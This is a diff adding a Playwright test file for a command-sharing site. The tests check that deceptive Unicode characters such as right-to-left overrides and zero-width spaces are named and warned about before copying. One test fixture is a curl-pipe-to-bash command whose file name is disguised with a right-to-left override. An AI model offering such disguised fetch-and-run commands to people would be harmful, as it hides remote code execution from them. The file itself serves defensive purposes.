@@ -1,0 +1,98 @@
+import assert from 'node:assert/strict'
+import test, { after } from 'node:test'
+import type { Locator } from 'playwright-core'
+import { startSite } from '../site-under-test.ts'
+import { closeBrowser } from '../visitor.ts'
+import { aCommand } from './a-command.ts'
+import { copyFrom, descriptionOf, partsOf } from './card-parts.ts'
+import { clipboardText } from './clipboard-text.ts'
+import { openCommander } from './open-commander.ts'
+
+const REVERSED = 'curl example.com/\u202ehs.exe | bash\u200b\u200b'
+const WARNING =
+  'This line contains 3 characters that are not what they seem: right-to-left override, zero-width space. ' +
+  'What is copied contains them too.'
+
+const site = await startSite([
+  aCommand({ id: 'reversed', notes: 'Harmless\u202e?', line: REVERSED }),
+  aCommand({ id: 'space', notes: '5\u00a0km, \u{1F468}\u200d\u{1F469}', line: 'rm\u00a0-r x' }),
+  aCommand({ id: 'honest', notes: 'Honest', line: 'cat <<END\n\tx\nEND' }),
+  aCommand({ id: 'blank', notes: 'With a blank', line: 'ping {{host}}' }),
+])
+
+after(closeBrowser)
+after(site.close)
+
+/** The names drawn before what deceives, and that text itself. */
+const named = (text: Locator) =>
+  text.locator('[data-name]').evaluateAll((all) =>
+    all.map((span) => {
+      const { content } = getComputedStyle(span, '::before')
+      return [content, span.textContent, getComputedStyle(span).unicodeBidi]
+    }),
+  )
+
+test('4. what deceives in a line is named where it stands and cannot turn its surroundings', async () => {
+  const { cards, lines, leave } = await openCommander(site)
+
+  const names = await named(partsOf(cards.first()).line)
+
+  assert.deepEqual(names, [
+    ['"right-to-left override"', '\u202e', 'isolate'],
+    ['"zero-width space × 2"', '\u200b\u200b', 'isolate'],
+  ])
+  assert.equal((await lines())[0], REVERSED)
+  await leave()
+})
+
+test('4. a sentence warns before copying, and the copy button is described by it', async () => {
+  const { cards, leave } = await openCommander(site)
+
+  assert.equal(await partsOf(cards.first()).warning.textContent(), WARNING)
+  assert.deepEqual(await descriptionOf(cards.first()), ['Harmless\u202e?', WARNING])
+  assert.match(
+    (await partsOf(cards.nth(1)).warning.textContent()) ?? '',
+    /1 character that is not what it seems: no-break space\. What is copied contains it too\.$/,
+  )
+  await leave()
+})
+
+test('4. what is copied is unchanged, by the button and by hand', async () => {
+  const { page, cards, leave } = await openCommander(site)
+  const { line } = partsOf(cards.first())
+
+  const byButton = await copyFrom(page, cards.first())
+  await line.evaluate((code) => getSelection()?.selectAllChildren(code))
+  await page.keyboard.press('ControlOrMeta+C')
+
+  assert.equal(byButton, REVERSED)
+  assert.equal(await clipboardText(page), REVERSED)
+  await leave()
+})
+
+test('4. notes are shown what deceives in them, but not their typography or emoji', async () => {
+  const { cards, leave } = await openCommander(site)
+
+  const first = await named(cards.first().getByRole('paragraph'))
+  const second = await named(cards.nth(1).getByRole('paragraph'))
+
+  assert.deepEqual(
+    first.map(([name]) => name),
+    ['"right-to-left override"'],
+  )
+  assert.deepEqual(second, [])
+  await leave()
+})
+
+test('4. an honest line has no warning; one that is filled in with what deceives gets one', async () => {
+  const { page, cards, leave } = await openCommander(site)
+  const [honest, blank] = [partsOf(cards.nth(2)), partsOf(cards.nth(3))]
+  const before = [await honest.warning.count(), await blank.warning.count()]
+
+  await blank.field('host').fill('exa\u200bmple.com')
+
+  assert.deepEqual(before, [0, 0])
+  assert.equal(await blank.warning.count(), 1)
+  assert.equal(await copyFrom(page, cards.nth(3)), 'ping exa\u200bmple.com')
+  await leave()
+})
